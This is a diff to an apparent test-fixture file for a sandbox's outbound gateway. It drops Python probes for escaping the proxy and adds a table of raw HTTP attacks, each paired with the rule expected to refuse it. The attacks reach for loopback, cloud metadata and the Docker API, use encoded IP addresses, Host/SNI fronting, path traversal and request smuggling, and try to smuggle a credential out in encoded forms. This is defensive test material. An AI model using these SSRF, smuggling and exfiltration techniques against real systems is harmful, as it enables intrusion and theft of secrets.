@@ -1,74 +1,179 @@
-/** Attacks on the way out of a sandbox: what runs in it, as a workspace's own tests would. */
+/** Attacks on the gateway by raw bytes, and the rule by which each is to be refused (THREATS 16, 21 to 27). */
+import { gzipSync } from "node:zlib";
+
+export const SECRET = "registry-credential-51d2e87f3a9c";
+/** Bytes that one upload may have. */
+export const UPLOAD = 8_192;
+
+export interface Attack {
+  readonly name: string;
+  readonly bytes: readonly string[];
+  readonly tls?: string;
+  readonly sni?: string;
+  /** The rule by which it is refused; `-`: refused before any rule, as what it is not. */
+  readonly rule: string;
+}
+
+const CLOSE = "Connection: close\r\n\r\n";
+
+function requestOf(url: string, more = "", method = "GET"): string[] {
+  return [`${method} ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}${CLOSE}`];
+}
+
+function posted(url: string, body: string, more = ""): string[] {
+  return [
+    `POST ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}Content-Length: ${body.length}\r\n${CLOSE}`,
+    body,
+  ];
+}
 
 /**
- * Reads attacks from `attacks.json`, plays each against the proxy, and prints what came of it, a line each:
- * `name | first line of the answer | rule`. An attack is bytes to send, or `tls`: bytes inside a tunnel of that target
- * and that server name. Of an answer that is silent, reset or closed it says so.
+ * @param port of a host `api.test` of which some things may be asked
+ * @param local of a service of this machine that nobody is to reach
  */
-export const ATTACKER = `import json, re, socket, ssl, sys
-def answer(s):
-  got = b""
-  try:
-    while True:
-      piece = s.recv(65536)
-      if not piece: break
-      got += piece
-  except socket.timeout: got = got or b"silence"
-  except OSError as error: got = got or str(error).encode()
-  return got.decode("latin1")
-def connected():
-  s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
-  return s
-def played(attack):
-  s = connected()
-  if "tls" in attack:
-    to = attack["tls"]
-    s.sendall(f"CONNECT {to} HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n".encode())
-    opened = s.recv(65536)
-    if b" 200 " not in opened.split(b"\\r\\n")[0]: return opened.decode("latin1")
-    trusted = ssl.create_default_context(); trusted.check_hostname = False; trusted.verify_mode = ssl.CERT_NONE
-    s = trusted.wrap_socket(s, server_hostname=attack["sni"])
-  for piece in attack["bytes"]: s.sendall(piece.encode("latin1"))
-  return answer(s)
-for attack in json.load(open("attacks.json")):
-  try: told = played(attack)
-  except Exception as error: told = type(error).__name__
-  rule = re.search(r"^rule: +(\\S+)", told, re.M)
-  print(attack["name"], "|", told.split("\\r\\n")[0], "|", rule.group(1) if rule else "-", flush=True)
-`;
-
-/**
- * What a planted test script tries past the proxy, a line each: raw TCP, UDP, names, QUIC, ICMP, with no variable set.
- * Prints `name: done` for what worked, else why not.
- */
-export const PAST_THE_PROXY = `import os, socket, ssl, sys, urllib.request
-for name in list(os.environ):
-  if name.lower().endswith("_proxy"): del os.environ[name]
-def tried(name, attack):
-  try: attack(); print(f"{name}: done", flush=True)
-  except Exception as error: print(f"{name}: {type(error).__name__}", flush=True)
-def tcp(address, port):
-  def attack(): socket.create_connection((address, port), 2).send(b"x")
-  return attack
-def udp(address, port, family=socket.AF_INET):
-  def attack(): socket.socket(family, socket.SOCK_DGRAM).sendto(b"x" * 1200, (address, port))
-  return attack
-port = int(sys.argv[1])
-for address in ("203.0.113.7", "172.17.0.1", "169.254.169.254", "10.0.0.1", "127.0.0.11"): tried(f"tcp {address}", tcp(address, port))
-tried("tcp to the host over the sandbox's loopback", tcp("127.0.0.1", port))
-tried("tcp over IPv6", tcp("2001:db8::1", port))
-tried("Docker's port", tcp("172.17.0.1", 2375))
-tried("Docker's port on loopback", tcp("127.0.0.1", 2375))
-tried("dns over udp", udp("8.8.8.8", 53))
-tried("dns over tcp", tcp("8.8.8.8", 53))
-tried("a name", lambda: socket.getaddrinfo("secret-in-a-name.example.org", 443))
-tried("quic", udp("203.0.113.7", 443))
-tried("quic over IPv6", udp("2001:db8::1", 443, socket.AF_INET6))
-tried("multicast", udp("224.0.0.251", 5353))
-tried("broadcast", udp("255.255.255.255", 9))
-tried("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"x", ("8.8.8.8", 0)))
-tried("icmp, raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
-tried("a request without proxy variables", lambda: urllib.request.urlopen(f"https://api.test:{port}/public/x", timeout=3))
-tried("Docker's socket", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
-tried("an abstract socket of the host", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + sys.argv[2]))
-`;
+export function attacksOn(port: number, local: number): Attack[] {
+  const api = `https://api.test:${port}`;
+  const inside = { tls: `api.test:${port}`, sni: "api.test" };
+  const host = `Host: api.test:${port}\r\n`;
+  const plainly = (url: string) => requestOf(url.replace("PORT", String(local)));
+  const raw = (target: string, header: string) => [`GET ${target} HTTP/1.1\r\nHost: ${header}\r\n${CLOSE}`];
+  return [
+    ...(
+      [
+        ["16: a service of this machine by its address", "http://127.0.0.1:PORT/", "gateway.address"],
+        ["16: the engine's port", "http://172.17.0.1:2375/containers/json", "gateway.address"],
+        ["16: the metadata address", "http://169.254.169.254/latest/meta-data/", "gateway.address"],
+        ["16: the metadata address by a name", "http://metadata.test/latest/meta-data/", "gateway.address"],
+        ["16: this machine by a name of its own address", "http://own.test:PORT/", "gateway.address"],
+        ["16: localhost", "http://localhost:PORT/", "gateway.address"],
+        ["16: a private network", "http://private.test/", "gateway.address"],
+        ["16: an address that no rule names", "http://192.168.0.1/", "default"],
+        ["21: IPv6's loopback", "http://[::1]:PORT/", "default"],
+        ["21: a mapped address", "http://[::ffff:127.0.0.1]:PORT/", "gateway.target"],
+        ["21: a name of a mapped address", "http://mapped.test:PORT/", "gateway.address"],
+        ["21: a name of a NAT64 address", "http://nat64.test:PORT/", "gateway.address"],
+        ["21: a public name that leads to loopback", "http://local.test:PORT/", "gateway.address"],
+      ] as const
+    ).map(([name, url, rule]) => ({ name, bytes: plainly(url), rule })),
+    ...(
+      [
+        ["21: a decimal address", `http://2130706433:${local}/`, `2130706433:${local}`],
+        ["21: an octal address", `http://0177.0.0.1:${local}/`, `0177.0.0.1:${local}`],
+        ["21: a hexadecimal address", `http://0x7f000001:${local}/`, `0x7f000001:${local}`],
+        ["21: a short address", `http://127.1:${local}/`, `127.1:${local}`],
+        ["22: a trailing dot", `http://denied.test.:${local}/`, `denied.test.:${local}`],
+        ["22: a user before the host", `http://api.test@denied.test:${local}/`, `denied.test:${local}`],
+        ["22: a NUL in the host", `http://api.test%00.denied.test:${local}/`, `api.test:${local}`],
+      ] as const
+    ).map(([name, target, header]) => ({ name, bytes: raw(target, header), rule: "gateway.target" })),
+    {
+      name: "22: upper case of a denied host",
+      bytes: raw(`http://DENIED.test:${local}/`, `denied.TEST:${local}`),
+      rule: "never",
+    },
+    {
+      name: "22: fronting by the Host header",
+      bytes: raw(`http://api.test:${local}/public/x`, `denied.test:${local}`),
+      rule: "gateway.host",
+    },
+    {
+      name: "22: fronting inside a tunnel",
+      ...inside,
+      bytes: [`GET /public/x HTTP/1.1\r\nHost: denied.test\r\n${CLOSE}`],
+      rule: "gateway.host",
+    },
+    {
+      name: "22: another SNI",
+      ...inside,
+      sni: "denied.test",
+      bytes: [`GET /public/x HTTP/1.1\r\n${host}${CLOSE}`],
+      rule: "gateway.sni",
+    },
+    {
+      name: "22: a CONNECT to a denied host",
+      tls: `denied.test:${port}`,
+      sni: "denied.test",
+      bytes: [`GET / HTTP/1.1\r\nHost: denied.test:${port}\r\n${CLOSE}`],
+      rule: "never",
+    },
+    ...[
+      "/public/../private",
+      "/public/%2e%2e/private",
+      "/public//private",
+      "/public/%2fprivate",
+      "/public/..%5cprivate",
+    ].map((path) => ({
+      name: `23: ${path}`,
+      ...inside,
+      bytes: [`GET ${path} HTTP/1.1\r\n${host}${CLOSE}`],
+      rule: "gateway.target",
+    })),
+    {
+      name: "24: something other than TLS in a tunnel",
+      bytes: [`CONNECT api.test:${port} HTTP/1.1\r\n${host}\r\nGET / HTTP/1.1\r\n\r\n`],
+      rule: "gateway.tls",
+    },
+    ...["h2c", "websocket"].map((protocol) => ({
+      name: `24: an upgrade to ${protocol}`,
+      ...inside,
+      bytes: [`GET /public/x HTTP/1.1\r\n${host}Connection: Upgrade, close\r\nUpgrade: ${protocol}\r\n\r\n`],
+      rule: "gateway.upgrade",
+    })),
+    ...(
+      [
+        ["24: a length and an encoding", "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"],
+        ["24: two Host headers", "Host: denied.test\r\n"],
+        ["24: a folded header", "X-A: b\r\n c\r\n"],
+      ] as const
+    ).map(([name, header]) => ({
+      name,
+      ...inside,
+      bytes: [
+        `POST /upload HTTP/1.1\r\n${host}${header}${CLOSE}0\r\n\r\nGET /public/smuggled HTTP/1.1\r\n${host}${CLOSE}`,
+      ],
+      rule: "-",
+    })),
+    ...(
+      [
+        ["in the path", { bytes: requestOf(`${api}/public/${SECRET}`) }],
+        ["in the query", { bytes: requestOf(`${api}/public/x?q=${SECRET}`) }],
+        ["in a header", { bytes: requestOf(`${api}/public/x`, `X-Note: ${SECRET}\r\n`) }],
+        [
+          "in the header of another account",
+          { bytes: requestOf("http://elsewhere.test/", `Authorization: Bearer ${SECRET}\r\n`) },
+        ],
+        ["in a body", { bytes: posted(`${api}/upload`, `x=${SECRET}`) }],
+        [
+          "in a body, in base64",
+          { bytes: posted(`${api}/upload`, Buffer.from(`ab${SECRET}`).toString("base64")) },
+        ],
+        ["in a body, in hex", { bytes: posted(`${api}/upload`, Buffer.from(SECRET).toString("hex")) }],
+        ["in a body, reversed", { bytes: posted(`${api}/upload`, [...SECRET].reverse().join("")) }],
+        [
+          "in a body, packed",
+          { bytes: posted(`${api}/upload`, gzipSync(`a ${SECRET} b`).toString("latin1")) },
+        ],
+        [
+          "in pieces of chunks",
+          {
+            bytes: [
+              `POST ${api}/upload HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n${CLOSE}`,
+              ...[...SECRET].map((letter) => `1\r\n${letter}\r\n`),
+              "0\r\n\r\n",
+            ],
+          },
+        ],
+      ] as const
+    ).map(([where, attack]) => ({ name: `25: a secret ${where}`, ...attack, rule: "builtin.secret" })),
+    {
+      name: "26: a placeholder to a foreign host",
+      bytes: requestOf("http://elsewhere.test/", "Authorization: Bearer PLACEHOLDER\r\n"),
+      rule: "builtin.placeholder",
+    },
+    {
+      name: "27: a body larger than its rule lets it be",
+      bytes: posted(`${api}/upload`, "x".repeat(UPLOAD)),
+      rule: "maxBytesOut",
+    },
+  ];
+}
